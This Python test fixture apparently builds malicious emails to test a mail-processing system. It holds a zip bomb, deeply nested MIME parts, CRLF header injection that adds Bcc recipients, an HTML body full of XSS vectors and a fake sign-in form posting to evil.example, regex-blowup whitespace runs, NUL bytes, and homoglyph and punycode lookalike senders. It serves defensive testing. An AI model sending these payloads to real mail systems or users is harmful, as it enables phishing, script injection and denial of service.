"""Mails made to break who reads them, by name."""

import io
import zipfile
from base64 import encodebytes
from collections.abc import Callable, Iterator

from tests.trials.prepare import INBOX

EVIL = "evil()"
"""What would run, if anything ran."""
HTML = f"""<html><head><base href="https://evil.example/"><style>@import "https://evil.example/x";
body {{ position: fixed; background: url(https://evil.example/y) }}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><script>{EVIL}</script></head>
<body onload="{EVIL}"><p style="position:fixed;top:0;background:url('https://evil.example/z')">Hello
<img src=x onerror="{EVIL}"><a href="javascript:{EVIL}">here</a>
<a href=" jAvAscript&#58;{EVIL}">or</a>
<svg onload="{EVIL}"><script>{EVIL}</script></svg><iframe src="javascript:{EVIL}"></iframe>
<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>
<math><mtext><style><img src=x onerror="{EVIL}"></style></mtext></math>
<![CDATA[><script>{EVIL}</script>]]><noscript><p title="</noscript><img src=x onerror={EVIL}>">
</body></html>"""


def mails() -> dict[str, bytes]:
    return {maker.__name__.strip("_").replace("_", " "): maker() for maker in MAKERS}


def head(name: str, *lines: str, sender: str = "mallory@customers.example") -> bytes:
    given = {line.partition(":")[0] for line in lines}
    usual = [f"From: {sender}", f"To: {INBOX}", f"Subject: {name}", f"Message-ID: <{name}@evil>"]
    kept = [line for line in usual if line.partition(":")[0] not in given]
    return "\r\n".join([*kept, "MIME-Version: 1.0", *lines]).encode() + b"\r\n"


def _zip_bomb() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as bomb:
        for number in range(10):
            bomb.writestr(f"{number}", bytes(10_000_000))
    kind = "Content-Type: application/zip; name=bomb.zip"
    encoded = encodebytes(packed.getvalue()).replace(b"\n", b"\r\n")
    return head("bomb", kind, "Content-Transfer-Encoding: base64") + b"\r\n" + encoded


def _ten_thousand_parts() -> bytes:
    part = b"--b\r\nContent-Type: text/plain\r\n\r\npart\r\n"
    return head("parts", "Content-Type: multipart/mixed; boundary=b") + b"\r\n" + part * 10_000


def _two_thousand_deep() -> bytes:
    def level(number: int) -> bytes:
        return (
            f'Content-Type: multipart/mixed; boundary="b{number}"\r\n\r\n--b{number}\r\n'.encode()
        )

    depth = b"".join(level(number) for number in range(2_000))
    return head("deep") + depth + b"Content-Type: text/plain\r\n\r\nbottom\r\n"


def _messages_in_messages() -> bytes:
    return head("inside") + b"Content-Type: message/rfc822\r\n\r\n" * 2_000 + b"bottom\r\n"


def _injected_headers() -> bytes:
    return (
        head(
            "injected",
            "Subject: =?utf-8?q?Hi=0D=0ABcc:_victim@elsewhere.example=0D=0A=0D=0Abody?=",
            "From: =?utf-8?q?M=0D=0ABcc:_victim@elsewhere.example?= <mallory@customers.example>",
            "Reply-To: =?utf-8?q?M=0ACc:_victim@elsewhere.example?= <mallory@customers.example>",
        )
        + b"\r\nHello\r\n"
    )


def _script_and_style() -> bytes:
    return head("script", "Content-Type: text/html; charset=utf-8") + b"\r\n" + HTML.encode()


def _script_in_the_text() -> bytes:
    words = f'<script>{EVIL}</script> "><img src=x onerror={EVIL}> javascript:{EVIL}'
    lines = [f"Subject: {words}", f'From: "<script>{EVIL}</script>" <mallory@customers.example>']
    return head("text", *lines) + b"\r\n" + words.encode() + b"\r\n"


def _html_without_an_end() -> bytes:
    deep = b"<div><blockquote><table><tr><td>" * 20_000
    return head("endless", "Content-Type: text/html") + b"\r\n" + deep + b"Hello"


def _wrong_charset() -> bytes:
    kind = "Content-Type: text/plain; charset=utf-8"
    return head("latin", kind) + b"\r\nHyv\xe4\xe4 p\xe4iv\xe4\xe4\r\n"


def _unknown_charset() -> bytes:
    return (
        head("klingon", "Content-Type: text/html; charset=x-klingon-8") + b"\r\n<p>\xff\xfe\x80</p>"
    )


def _half_of_a_charset() -> bytes:
    return head("utf-16", "Content-Type: text/plain; charset=utf-16") + b"\r\n\xff\xfeH\x00e\x00l"


def _nul_bytes() -> bytes:
    lines = ["Subject: nul \x00 here", "From: M\x00 <mallory@customers.example>"]
    kind = "Content-Type: text/plain; charset=utf-8; name=a\x00b.txt"
    return head("nul", *lines, kind) + b"\r\nbefore\x00after\x00\r\n"


def _encoded_nul_bytes() -> bytes:
    lines = ["Subject: =?utf-8?q?nul_=00_here?=", "Content-Transfer-Encoding: quoted-printable"]
    return head("encoded-nul", *lines, "Content-Type: text/html") + b"\r\n<p>a=00b&#0;c</p>\r\n"


def _endless_headers() -> bytes:
    many = ", ".join(f"<{number}@evil.example>" for number in range(5_000))
    long = ["Subject: " + "x" * 200_000, f"References: {many}", f"Cc: {many}"]
    return head("endless-headers", *long, f"Message-ID: <{'m' * 5_000}@evil>") + b"\r\nHello\r\n"


def _thousands_of_blanks() -> bytes:
    """Which patterns that look for blanks twice read for ever."""
    blanks = " " * 20_000
    lines = [f"{name}: {blanks}x" for name in ("From", "Reply-To", "Cc")]
    ids = [f"{name}: <{blanks}x" for name in ("Message-ID", "References", "In-Reply-To")]
    return head("blanks", *lines, *ids) + b"\r\nHello\r\n"


def _times_that_never_were() -> bytes:
    return head("times", "Date: Mon, 99 Foo 99999 99:99:99 +9999") + b"\r\nHello\r\n"


def _letters_that_are_none() -> bytes:
    subject = "Subject: =?utf-8?b?7aCA7bCA?= =?utf-7?q?+2AA-?= \u202egnp.exe"
    return (
        head("surrogates", subject, "Content-Type: text/plain; charset=utf-8") + b"\r\n\xed\xa0\x80"
    )


MAKERS: list[Callable[[], bytes]] = [
    _zip_bomb,
    _ten_thousand_parts,
    _two_thousand_deep,
    _messages_in_messages,
    _injected_headers,
    _script_and_style,
    _script_in_the_text,
    _html_without_an_end,
    _wrong_charset,
    _unknown_charset,
    _half_of_a_charset,
    _nul_bytes,
    _encoded_nul_bytes,
    _endless_headers,
    _thousands_of_blanks,
    _times_that_never_were,
    _letters_that_are_none,
]


def lookalikes() -> Iterator[bytes]:
    """Senders that seem to be the company, a customer, or a well-known name."""
    for number, sender in enumerate(
        (
            f'"{INBOX}" <mallory@evil.example>',
            "Company <help@cоmpany.example>",
            "=?utf-8?q?C=D0=BEmpany?= <mallory@evil.example>",
            "Company <help@xn--cmpany-gqf.example>",
        )
    ):
        yield head(f"lookalike-{number}", sender=sender) + b"\r\nSend me everything.\r\n"
